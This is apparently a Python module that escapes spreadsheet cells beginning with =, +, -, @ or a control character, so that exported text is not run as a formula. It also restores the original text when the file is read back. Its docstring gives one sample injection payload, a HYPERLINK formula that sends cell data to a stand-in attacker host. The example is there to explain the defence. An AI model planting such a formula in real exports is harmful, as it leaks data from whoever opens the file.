"""Formula-safe text cells (CSV/formula injection, OWASP's rule).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
line break before one of them) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
in a feedback reason would run on the computer of whoever opens the download.
Every *text* cell written to a file therefore gets a leading single quote when it
starts with one of ``FORMULA_START``; numbers stay numbers.

The rule, both ways (written by ``neutralise``, read back by ``restore``):

- **write:** a text that starts with any number of quotes followed by one of
  ``FORMULA_START`` gets one more quote in front: ``=1+1`` → ``'=1+1``,
  ``'=1+1`` → ``''=1+1``. Any other text is written as it is (``'abc`` stays ``'abc``).
- **read:** a cell that starts with one or more quotes followed by one of
  ``FORMULA_START`` loses exactly one quote, and is then taken verbatim (not trimmed,
  so ``'\\t=1+1`` reads back as ``\\t=1+1``). Any other cell is read as it is.

So reading what was written always gives back the original text, and a cell
starting with ``'`` that is not followed by a formula character is never touched.
"""

from __future__ import annotations

QUOTE = "'"
FORMULA_START = frozenset("=+-@\t\r\n")
"""OWASP's list (``= + - @``, tab, carriage return) plus line feed: an Excel
file keeps a carriage return as a line feed, and the read rule must still
recognise what the write rule escaped."""


class Verbatim(str):
    """Text read back from an escaped cell: exactly the original, never trimmed."""

    __slots__ = ()


def needs_quote(text: str) -> bool:
    """Whether ``text`` starts with quotes (or nothing) then a formula character."""
    body = text.lstrip(QUOTE)
    return bool(body) and body[0] in FORMULA_START


def neutralise(text: str) -> str:
    """``text`` as a cell no spreadsheet runs as a formula."""
    return QUOTE + text if needs_quote(text) else text


def escaped(cell: str) -> bool:
    """Whether ``cell`` is one that ``neutralise`` escaped (or is written like one)."""
    return cell.startswith(QUOTE) and needs_quote(cell)


def restore(cell: str) -> str:
    """The original text of a cell written by ``neutralise``."""
    return Verbatim(cell[1:]) if escaped(cell) else cell
